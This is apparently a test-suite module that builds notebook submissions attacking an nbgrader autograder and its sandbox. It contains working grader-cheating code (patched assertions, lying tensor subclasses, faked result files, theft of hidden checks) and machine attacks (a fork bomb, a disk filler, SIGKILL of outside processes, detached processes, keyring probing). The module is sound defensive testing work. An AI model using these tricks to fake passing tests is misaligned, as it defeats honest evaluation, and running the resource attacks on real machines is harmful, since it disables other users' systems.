"""The attack corpus: submissions to 00_welcome that try to earn points they did not earn.

Each attack starts from a submission whose answers are wrong but well-formed (``WRONG``)
and adds one trick: an extra cell placed before the first exercise, replaced answers, or
both. Graded honestly, the wrong answers earn nothing; so must every attack. One attack
(``kill_during_probe``) starts from right answers and proves the other exercises are still
graded when the kernel is killed mid-check.

``tests/grading/test_attacks.py`` grades them all in one run; ``tools/attack_report.py``
prints, for each, the score under plain nbgrader and under the grade command.

``CONTAINMENT`` holds the attacks on the machine rather than on the verdict: listing and
signalling other processes, leaving processes behind, a fork bomb, a disk filler, a notebook
of slow cells. They are kept apart (``containment_corpus``) because they are only safe in
the sandbox: run unconfined, as plain nbgrader runs notebooks, they would signal or starve
the machine's own processes and fill its disk.
"""

from __future__ import annotations

import os
import textwrap
import time
from dataclasses import dataclass, field
from pathlib import Path

import nbformat
from nbformat import NotebookNode

from autograder import course
from autograder.grading import samples

LESSON = "00_welcome"
# A file outside the sandbox that the fake_result_files attack links to: the grader must not
# touch it (nbgrader chmods every file of the autograded folder, following links).
SENTINEL = f"/tmp/attack-chmod-sentinel-{os.getpid()}"
# In the command line of every process and the name of every file the containment attacks
# leave behind: the test looks for it on the machine once grading is over.
MARKER = f"attack-leftover-{os.getpid()}"

WRONG = {
    "pick_device": "def pick_device(cuda_available, mps_available):\n    return torch.device('cpu')\n",
    "halve_until_small": "def halve_until_small(x, limit):\n    return x / 2\n",
    "value_and_grad": ("def value_and_grad(f, x):\n    return float(f(x)), torch.zeros_like(x)\n"),
}


@dataclass(frozen=True)
class Attack:
    name: str
    what: str  # one line for the report
    cell: str = ""  # code for an extra cell before the first exercise
    answers: dict[str, str] = field(default_factory=dict)  # answer grade_id -> code
    base: str = "wrong"  # "wrong" or "right": the honest answers the attack starts from
    repeat: int = 1  # how many copies of ``cell`` to insert


def _code(text: str) -> str:
    return textwrap.dedent(text).lstrip()


ATTACKS = [
    Attack(
        "input_transformer",
        "an IPython input transformer blanks every later cell that mentions assert or check",
        cell=_code(
            """
            def _skip_checks(lines):
                text = "".join(lines)
                return ["pass\\n"] if ("assert" in text or "check" in text) else lines
            get_ipython().input_transformers_cleanup.append(_skip_checks)
            """
        ),
    ),
    Attack(
        "ast_transformer",
        "an AST transformer turns every assert and every bare call into pass",
        cell=_code(
            """
            import ast
            class _NoChecks(ast.NodeTransformer):
                def visit_Assert(self, node):
                    return ast.Pass()
                def visit_Expr(self, node):
                    return ast.Pass() if isinstance(node.value, ast.Call) else node
            get_ipython().ast_transformers.append(_NoChecks())
            """
        ),
    ),
    Attack(
        "patched_run_cell",
        "the shell's run_cell is wrapped to run 'pass' instead of any cell that checks",
        cell=_code(
            """
            _ip = get_ipython()
            _orig_run, _orig_async = _ip.run_cell, _ip.run_cell_async
            def _clean(raw):
                return "pass" if ("check" in raw or "assert" in raw) else raw
            def _run_cell(raw_cell, *args, **kwargs):
                return _orig_run(_clean(raw_cell), *args, **kwargs)
            async def _run_cell_async(raw_cell, *args, **kwargs):
                return await _orig_async(_clean(raw_cell), *args, **kwargs)
            _ip.run_cell, _ip.run_cell_async = _run_cell, _run_cell_async
            """
        ),
    ),
    Attack(
        "patched_torch",
        "torch.allclose, equal, isclose, testing.assert_close and Tensor.__eq__ always agree",
        cell=_code(
            """
            import torch, torch.testing
            torch.allclose = lambda *a, **k: True
            torch.equal = lambda *a, **k: True
            torch.isclose = lambda a, b, *r, **k: torch.ones_like(torch.as_tensor(a), dtype=torch.bool)
            torch.testing.assert_close = lambda *a, **k: None
            torch.Tensor.__eq__ = lambda self, other: torch.ones(self.shape, dtype=torch.bool)
            """
        ),
    ),
    Attack(
        "patched_numpy",
        "numpy's allclose, isclose, array_equal and testing asserts always agree",
        cell=_code(
            """
            import numpy as np
            np.allclose = lambda *a, **k: True
            np.array_equal = lambda *a, **k: True
            np.isclose = lambda a, b, *r, **k: np.ones_like(np.asarray(a), dtype=bool)
            np.testing.assert_allclose = lambda *a, **k: None
            np.testing.assert_array_equal = lambda *a, **k: None
            """
        ),
    ),
    Attack(
        "patched_builtins",
        "builtins.abs always returns 0, so every |got - expected| < tol holds",
        cell=_code(
            """
            import builtins
            builtins.abs = lambda value: 0.0
            """
        ),
    ),
    Attack(
        "patched_tutorial_lib",
        "tutorial_lib's check helpers do nothing and CheckError is never raised",
        cell=_code(
            """
            import tutorial_lib.checks as _checks
            _quiet = lambda *a, **k: None
            for _n in ("assert_close", "check_type", "check_shape", "check_dtype", "check_device"):
                setattr(_checks, _n, _quiet)
                globals()[_n] = _quiet
            class _Never(Exception):
                pass
            _checks.CheckError = _Never
            """
        ),
    ),
    Attack(
        "patched_autograder",
        "fake autograder.hidden modules whose checks pass, planted in sys.modules",
        cell=_code(
            """
            import sys, types
            class _Pass(types.ModuleType):
                def __getattr__(self, name):
                    return lambda *a, **k: None
            for _name in ("autograder", "autograder.hidden", "autograder.hidden.welcome"):
                sys.modules[_name] = _Pass(_name)
            """
        ),
    ),
    Attack(
        "hijacked_exec",
        "builtins.exec is wrapped so the grader's probe module writes a made-up passing result",
        cell=_code(
            """
            import builtins, json, sys
            _real_exec = builtins.exec
            _FAKE = json.dumps({"__dict__": [["value", {"__dict__": [
                ["result", {"__device__": "cuda"}], ["args", []],
                ["out", [1.0]], ["connected", True], ["x_touched", False]]}]]})
            def _serve(probe_module, probe_name, name, case_json, out_path):
                with open(out_path, "w") as f:
                    f.write(_FAKE)
            def _exec(code, *rest):
                _real_exec(code, *rest)
                for mod in list(sys.modules.values()):
                    if getattr(mod, "__name__", "").startswith("autograder"):
                        if hasattr(mod, "serve"):
                            mod.serve = _serve
                        if hasattr(mod, "observe"):
                            mod.observe = lambda *a, **k: {}
            builtins.exec = _exec
            """
        ),
    ),
    Attack(
        "patched_base64",
        "base64.b64encode in the kernel returns made-up bytes for every tensor",
        cell=_code(
            """
            import base64
            base64.b64encode = lambda data, *a, **k: b"AAAA"
            """
        ),
    ),
    Attack(
        "always_equal",
        "answers return an object whose __eq__ is always true and whose __class__ lies",
        cell=_code(
            """
            class _Yes:
                @property
                def __class__(self):
                    return torch.device
                def __eq__(self, other):
                    return True
                def __ne__(self, other):
                    return False
                def __float__(self):
                    return 0.0
                def __iter__(self):
                    return iter((_Yes(), _Yes()))
                def __len__(self):
                    return 2
                __hash__ = object.__hash__
            """
        ),
        answers={
            "pick_device": "def pick_device(cuda_available, mps_available):\n    return _Yes()\n",
            "halve_until_small": "def halve_until_small(x, limit):\n    return _Yes()\n",
            "value_and_grad": "def value_and_grad(f, x):\n    return (_Yes(), _Yes())\n",
        },
    ),
    Attack(
        "lying_tensor_values",
        "a Tensor subclass whose comparisons, differences and allclose all say 'equal'",
        cell=_code(
            """
            class _Liar(torch.Tensor):
                @classmethod
                def __torch_function__(cls, func, types, args=(), kwargs=None):
                    name = getattr(func, "__name__", "")
                    out = super().__torch_function__(func, types, args, kwargs or {})
                    if name in ("allclose", "equal"):
                        return True
                    if name in ("isclose", "eq", "__eq__"):
                        return torch.ones(out.shape, dtype=torch.bool)
                    if name in ("sub", "__sub__", "__rsub__", "abs", "ne", "__ne__"):
                        return torch.zeros(out.shape, dtype=out.dtype) if name not in ("ne", "__ne__") else torch.zeros(out.shape, dtype=torch.bool)
                    return out
            """
        ),
        answers={
            "halve_until_small": (
                "def halve_until_small(x, limit):\n    return (x * 0.123).as_subclass(_Liar)\n"
            ),
            "value_and_grad": (
                "def value_and_grad(f, x):\n"
                "    return float(f(x)), torch.zeros_like(x).as_subclass(_Liar)\n"
            ),
        },
    ),
    Attack(
        "lying_tensor_shape",
        "a Tensor subclass that reports the input's shape while holding one number",
        cell=_code(
            """
            class _ShapeLiar(torch.Tensor):
                claimed = None
                @property
                def shape(self):
                    return self.claimed if self.claimed is not None else super().shape
                def size(self, dim=None):
                    return self.shape if dim is None else self.shape[dim]
            def _lie(value, like):
                out = value.as_subclass(_ShapeLiar)
                out.claimed = like.shape
                return out
            """
        ),
        answers={
            "halve_until_small": (
                "def halve_until_small(x, limit):\n    return _lie(x.sum().reshape(1) * 0, x)\n"
            ),
            "value_and_grad": (
                "def value_and_grad(f, x):\n"
                "    return float(f(x)), _lie(torch.zeros(1, device=x.device), x)\n"
            ),
        },
    ),
    Attack(
        "system_exit",
        "every answer raises SystemExit",
        answers={
            "pick_device": "def pick_device(cuda_available, mps_available):\n    raise SystemExit(0)\n",
            "halve_until_small": "def halve_until_small(x, limit):\n    raise SystemExit(0)\n",
            "value_and_grad": "def value_and_grad(f, x):\n    raise SystemExit(0)\n",
        },
    ),
    Attack(
        "keyboard_interrupt",
        "every answer raises KeyboardInterrupt",
        answers={
            "pick_device": "def pick_device(cuda_available, mps_available):\n    raise KeyboardInterrupt\n",
            "halve_until_small": "def halve_until_small(x, limit):\n    raise KeyboardInterrupt\n",
            "value_and_grad": "def value_and_grad(f, x):\n    raise KeyboardInterrupt\n",
        },
    ),
    Attack(
        "hidden_tracebacks",
        "custom exception handler, showtraceback and excepthook swallow every error",
        cell=_code(
            """
            import sys
            _ip = get_ipython()
            _ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
            _ip.showtraceback = lambda *a, **k: None
            _ip.showsyntaxerror = lambda *a, **k: None
            sys.excepthook = lambda *a: None
            """
        ),
    ),
    Attack(
        "cleared_outputs",
        "a post_run_cell hook clears every cell's output, errors included",
        cell=_code(
            """
            from IPython.display import clear_output
            get_ipython().events.register("post_run_cell", lambda result: clear_output())
            """
        ),
    ),
    Attack(
        "fake_result_files",
        "plants result files and symlinks, and writes a made-up result to the probe's file",
        cell=_code(
            """
            import json, os, sys
            SENTINEL = "SENTINEL_PATH"  # tests/grading/attacks.py: SENTINEL
            _FAKE = json.dumps({"__dict__": [["value", {"__dict__": [["result", {"__device__": "cuda"}], ["args", []]]}]]})
            for _i in range(64):
                with open(f".probe-{_i:016x}.json", "w") as _f:
                    _f.write(_FAKE)
            for _target in ("/proc/self/environ", SENTINEL):
                try:
                    os.symlink(_target, f".probe-{abs(hash(_target)):016x}.json")
                except OSError:
                    pass
            def _fake_then_leave(value):
                frame = sys._getframe(1)
                while frame is not None and "out_path" not in frame.f_locals:
                    frame = frame.f_back
                if frame is not None:
                    with open(frame.f_locals["out_path"], "w") as f:
                        f.write(json.dumps({"__dict__": [["value", value]]}))
                    raise SystemExit  # skips the real result being written
            """
        ),
        answers={
            "pick_device": (
                "def pick_device(cuda_available, mps_available):\n"
                "    _fake_then_leave({'__dict__': [['result', {'__device__': 'cuda'}], ['args', []]]})\n"
                "    return torch.device('cpu')\n"
            ),
            "halve_until_small": (
                "def halve_until_small(x, limit):\n"
                "    _fake_then_leave({'__dict__': [['out', {'__object__': 'x'}], ['connected', True]]})\n"
                "    return x / 2\n"
            ),
        },
    ),
    Attack(
        "printed_fake_output",
        "prints and displays 'all tests passed' and a fake result, in cells and in answers",
        cell=_code(
            """
            from IPython.display import HTML, display
            print("All tests passed! Score: 5/5")
            display(HTML("<div class='alert alert-success'>All hidden tests passed</div>"))
            _FAKE = '{"__dict__": [["value", {"__dict__": [["result", {"__device__": "cuda"}]]}]]}'
            print(_FAKE)
            """
        ),
        answers={
            "pick_device": (
                "def pick_device(cuda_available, mps_available):\n"
                "    print(_FAKE)\n    print('ok: tests passed')\n    return torch.device('cpu')\n"
            ),
        },
    ),
    Attack(
        "huge_output",
        "prints 60 MB in a cell and 5 MB on every call of an answer",
        cell='print("x" * 60_000_000)\n',
        answers={
            "pick_device": (
                "def pick_device(cuda_available, mps_available):\n"
                "    print('y' * 5_000_000)\n    return torch.device('cpu')\n"
            ),
        },
    ),
    Attack(
        "read_hidden_checks",
        "looks for the hidden checks on disk, in sys.modules and in memory, and uses them",
        cell=_code(
            f"""
            import gc, glob, os, sys, time
            _found = glob.glob("{course.ROOT}/autograder/hidden/*.py")
            _seen, _stop = 0, time.monotonic() + 5  # a bounded search: this is no benchmark
            for _top, _dirs, _files in os.walk("/"):
                _seen += 1
                if _seen > 20000 or time.monotonic() > _stop:
                    break
                if _top.count("/") > 4 or _top.startswith(("/proc", "/sys", "/dev", "/usr")):
                    _dirs[:] = []
                    continue
                _found += [os.path.join(_top, f) for f in _files if f == "welcome.py" and "hidden" in _top]
            def _steal():
                for name, mod in list(sys.modules.items()):
                    if name.startswith("autograder.hidden"):
                        for key in ("_reference_halvings", "check_halve_until_small"):
                            fn = getattr(mod, key, None)
                            if callable(fn) and getattr(fn, "__name__", "") == key:
                                return fn
                for obj in gc.get_objects():
                    if callable(obj) and getattr(obj, "__name__", "") == "_reference_halvings":
                        return obj
                return None
            print("found on disk:", _found)
            """
        ),
        answers={
            "halve_until_small": (
                "def halve_until_small(x, limit):\n"
                "    ref = _steal()\n"
                "    if ref is not None and ref.__name__ == '_reference_halvings':\n"
                "        return x / 2 ** ref(float(x.norm()), limit)\n"
                "    return x / 2\n"
            ),
        },
    ),
    Attack(
        "slow_answer",
        "an answer that sleeps for an hour",
        answers={
            "pick_device": (
                "import time\ndef pick_device(cuda_available, mps_available):\n"
                "    time.sleep(3600)\n    return torch.device('cpu')\n"
            ),
        },
    ),
    Attack(
        "kill_at_every_test",
        "a pre_run_cell hook kills the kernel whenever a cell mentions check",
        cell=_code(
            """
            import os
            def _die(info):
                if "check" in info.raw_cell and "_die" not in info.raw_cell:
                    os._exit(0)
            get_ipython().events.register("pre_run_cell", _die)
            """
        ),
    ),
    Attack(
        "kill_during_probe",
        "right answers, but pick_device kills the kernel when the grader's probe calls it",
        base="right",
        answers={
            "pick_device": (
                "import inspect, os\n"
                "def pick_device(cuda_available, mps_available):\n"
                "    if any(frame.function == 'serve' for frame in inspect.stack()):\n"
                "        os._exit(1)\n"
                "    if cuda_available:\n        return torch.device('cuda')\n"
                "    if mps_available:\n        return torch.device('mps')\n"
                "    return torch.device('cpu')\n"
            ),
        },
    ),
]


# Attacks on the machine, not on the verdict: only safe inside the sandbox (see above).
# SENTINEL_PID is a process the test starts outside the sandbox; MARKER as above.
CONTAINMENT = [
    Attack(
        "list_processes",
        "lists every process in /proc with its command line, looking for the grader's",
        cell=_code(
            """
            import json, os
            _seen = {}
            for _pid in (p for p in os.listdir("/proc") if p.isdigit()):
                try:
                    with open(f"/proc/{_pid}/cmdline", "rb") as _f:
                        _seen[_pid] = _f.read().replace(b"\\0", b" ").decode(errors="replace")[:300]
                except OSError:
                    pass
            print("PROCESSES" + json.dumps(_seen) + "END")
            """
        ),
    ),
    Attack(
        "signal_outside",
        "SIGKILLs a process outside the sandbox, its own parent and every process it may (kill -1)",
        cell=_code(
            """
            import os, signal
            _tried = {}
            for _target in (SENTINEL_PID, os.getppid(), -1):
                try:
                    os.kill(_target, signal.SIGKILL)
                    _tried[_target] = "sent"
                except OSError as _err:
                    _tried[_target] = type(_err).__name__
            print("SIGNALS", _tried)
            """
        ),
    ),
    Attack(
        "detached_processes",
        "starts processes that outlive the kernel: a new session, a double fork with setsid",
        cell=_code(
            """
            import os, subprocess, sys, time
            _code = "import time; time.sleep(300)"
            _kids = [subprocess.Popen([sys.executable, "-c", _code, "MARKER"], start_new_session=True).pid]
            _read, _write = os.pipe()
            if os.fork() == 0:  # double fork: the grandchild is nobody's child
                os.setsid()
                _pid = os.fork()
                if _pid == 0:
                    os.execv(sys.executable, [sys.executable, "-c", _code, "MARKER"])
                os.write(_write, str(_pid).encode())
                os._exit(0)
            _kids.append(int(os.read(_read, 32)))
            time.sleep(1)
            _alive = []
            for _pid in _kids:
                try:
                    os.kill(_pid, 0)
                    _alive.append(True)
                except OSError:
                    _alive.append(False)
            print("DETACHED alive:", _alive)
            """
        ),
    ),
    Attack(
        "fork_bomb",
        "right answers, but pick_device's cell forks until the machine refuses, then prints "
        "more than 64 KiB at once (a message that large needed a thread the kernel could no "
        "longer start)",
        base="right",
        answers={
            "pick_device": (
                "import os, time\n"
                "_kids = []\n"
                "try:\n"
                "    while len(_kids) < 100_000:\n"
                "        _pid = os.fork()\n"
                "        if _pid == 0:\n"
                "            time.sleep(120)\n"
                "            os._exit(0)\n"
                "        _kids.append(_pid)\n"
                "finally:\n"
                "    print('FORKED', len(_kids), flush=True)\n"
                "    print('y' * 200_000, flush=True)\n"
                "def pick_device(cuda_available, mps_available):\n"
                "    return torch.device('cuda' if cuda_available else 'mps' if mps_available else 'cpu')\n"
            ),
        },
    ),
    Attack(
        "disk_filler",
        "writes to its working folder until the disk is full, and leaves the file there",
        cell=_code(
            """
            _chunk = b"x" * (1 << 20)
            with open("MARKER.bin", "wb") as _f:
                while True:
                    _f.write(_chunk)
            """
        ),
    ),
    Attack(
        "slow_cells",
        "twelve cells of eight seconds each: every one under the per-cell limit",
        cell="import time\ntime.sleep(8)\n",
        repeat=12,
    ),
    Attack(
        "read_the_notebook",
        "looks for the graded notebook (restored test cells, hidden lines) beside the kernel",
        cell=_code(
            """
            import glob, os
            _places = [os.getcwd(), os.path.expanduser("~"), "/tmp"]  # and / itself, shallowly
            _found = {p for d in _places for p in glob.glob(f"{d}/**/*.ipynb", recursive=True)}
            _found |= set(glob.glob("/*.ipynb") + glob.glob("/*/*.ipynb") + glob.glob("/*/*/*.ipynb"))
            _found = sorted(_found)
            print("NOTEBOOKS", _found)
            """
        ),
    ),
]


# Key names the channel attacks look for in the keyrings they can reach: one the test puts
# in the grader's own session keyring, one an earlier kernel may have left behind.
GRADER_KEY = f"grader-canary-{os.getpid()}"
LEFT_KEY = f"left-by-a-kernel-{os.getpid()}"

# What the sandbox's channels show a submission: its environment, its open files, its user,
# and the keyrings (the grader's session keyring, a key an earlier kernel left). It then
# leaves a key of its own behind, for the next kernel to look for.
CHANNELS = (
    _code(
        """
    import ctypes, json, os, platform
    _libc = ctypes.CDLL(None, use_errno=True)
    _keyctl, _add_key = {"x86_64": (250, 248), "aarch64": (219, 217)}[platform.machine()]
    def _search(ring, name):  # KEYCTL_SEARCH: the key's id when this process may see it
        found = _libc.syscall(_keyctl, 10, ring, b"user", name.encode(), 0)
        return found if found >= 0 else None
    _fds = {}
    for _fd in os.listdir("/proc/self/fd"):
        try:
            _fds[_fd] = os.readlink(f"/proc/self/fd/{_fd}")
        except OSError:
            pass
    _seen = {
        "env": sorted(os.environ),
        "fds": sorted(set(_fds.values())),
        "uid": os.getuid(),
        "grader_key": [_search(r, "GRADER_KEY") for r in (-3, -4, -5)],
        "left_key": [_search(r, "LEFT_KEY") for r in (-3, -4, -5)],
    }
    for _ring in (-3, -4):  # the session and the user keyring
        _libc.syscall(_add_key, b"user", b"LEFT_KEY", b"from a submission", 17, _ring)
    print("CHANNELS" + json.dumps(_seen) + "END")
    """
    )
    .replace("GRADER_KEY", GRADER_KEY)
    .replace("LEFT_KEY", LEFT_KEY)
)

# Processes that only burn CPU, started by one submission; its other cells go on meanwhile.
BUSY_PROCESSES = 80
BUSY_SECONDS = 30

CPU_HOG = Attack(
    "0_cpu_hog",
    f"right answers, and {BUSY_PROCESSES} busy processes for {BUSY_SECONDS} s while the "
    "next submissions are graded beside it",
    base="right",
    cell=_code(
        f"""
        import os, time
        _go_read, _go = os.pipe()  # they all start spinning once every one is forked
        _hogs = []
        for _ in range({BUSY_PROCESSES}):
            _pid = os.fork()
            if _pid == 0:  # spin, then leave quietly (an interrupt too)
                try:
                    # A session each: Linux's autogroup shares the CPU fairly between
                    # sessions, not between sandboxes; forty sessions outweigh one victim.
                    os.setsid()
                    os.read(_go_read, 1)
                    _end = time.time() + {BUSY_SECONDS}
                    while time.time() < _end:
                        pass
                finally:
                    os._exit(0)
            _hogs.append(_pid)
        os.write(_go, b"x" * len(_hogs))
        print("HOGS", len(_hogs))
        """
    ),
)

PER_SUBMISSION = [
    Attack(
        "memory_children",
        "right answers, and three children of 2 GiB each: together past --memory 4096",
        base="right",
        cell=_code(
            """
            import subprocess, sys
            _child = "import time; _b = b'x' * (2 << 30); time.sleep(2)"
            _kids = [subprocess.Popen([sys.executable, "-c", _child]) for _ in range(3)]
            print("CHILDREN", [k.wait() for k in _kids])
            """
        ),
    ),
    Attack(
        "thousand_cells",
        "a thousand small cells, each printing 100,000 characters",
        base="right",
        cell='print("y" * 100_000)\n',
        repeat=1000,
    ),
    Attack("channels_1", "reads its environment, files, user and keyrings", cell=CHANNELS),
    Attack("channels_2", "the same, graded after the first by the same workers", cell=CHANNELS),
]


def per_submission_corpus() -> dict[str, NotebookNode]:
    """Student id -> notebook: attacks on what one submission may cost another (sandbox
    only); the CPU hog is graded in a run of its own (``cpu_contest``)."""
    return {a.name: build(a) for a in PER_SUBMISSION}


def cpu_contest() -> dict[str, NotebookNode]:
    """The CPU hog and right answers graded beside it (``0_cpu_victim_*``, sorted right after
    it, so the other job grades them while it runs): a run of their own, under a per-cell
    limit short enough that a victim starved of CPU would lose points."""
    right = samples.solution(LESSON)
    return {CPU_HOG.name: build(CPU_HOG), **{f"0_cpu_victim_{i}": right for i in range(3)}}


def _first_answer_index(nb: NotebookNode) -> int:
    return next(i for i, c in enumerate(nb.cells) if c.metadata.get("nbgrader", {}).get("solution"))


def build(attack: Attack, sentinel_pid: int = 0) -> NotebookNode:
    """The attack's submission notebook."""

    def filled(code: str) -> str:
        code = code.replace("SENTINEL_PATH", SENTINEL).replace("MARKER", MARKER)
        return code.replace("SENTINEL_PID", str(sentinel_pid))

    nb = samples.solution(LESSON)
    if attack.base == "wrong":
        for grade_id, code in WRONG.items():
            nb = samples.replace_answer(nb, grade_id, code)
    for grade_id, code in attack.answers.items():
        nb = samples.replace_answer(nb, grade_id, filled(code))
    for _ in range(attack.repeat if attack.cell else 0):
        nb.cells.insert(_first_answer_index(nb), nbformat.v4.new_code_cell(filled(attack.cell)))
    return nb


def baselines() -> dict[str, NotebookNode]:
    """The honest submissions the attacks start from."""
    wrong = samples.solution(LESSON)
    for grade_id, code in WRONG.items():
        wrong = samples.replace_answer(wrong, grade_id, code)
    return {"honest_wrong": wrong, "honest_right": samples.solution(LESSON)}


def corpus() -> dict[str, NotebookNode]:
    """Student id -> notebook: every attack, and the two honest baselines."""
    return {**baselines(), **{a.name: build(a) for a in ATTACKS}}


def containment_corpus(sentinel_pid: int) -> dict[str, NotebookNode]:
    """Student id -> notebook: the attacks on the machine; sandbox only (see above)."""
    return {a.name: build(a, sentinel_pid) for a in CONTAINMENT}


def processes_with(text: str, wait_s: float = 10.0) -> list[str]:
    """Command lines of the machine's processes (outside any sandbox, this one excepted) that
    contain text, once those on their way out have gone: a process killed as its sandbox
    ended can still be listed for a moment on a busy machine (seen under pytest -n 2), while
    one that outlived grading stays listed however long this waits (up to ``wait_s``)."""
    deadline = time.monotonic() + wait_s
    while True:
        found = []
        for entry in os.listdir("/proc"):
            if entry.isdigit() and int(entry) != os.getpid():
                try:
                    cmdline = Path("/proc", entry, "cmdline").read_bytes()
                except OSError:
                    continue
                if text.encode() in cmdline:
                    found.append(cmdline.replace(b"\0", b" ").decode(errors="replace"))
        if not found or time.monotonic() >= deadline:
            return found
        time.sleep(0.2)
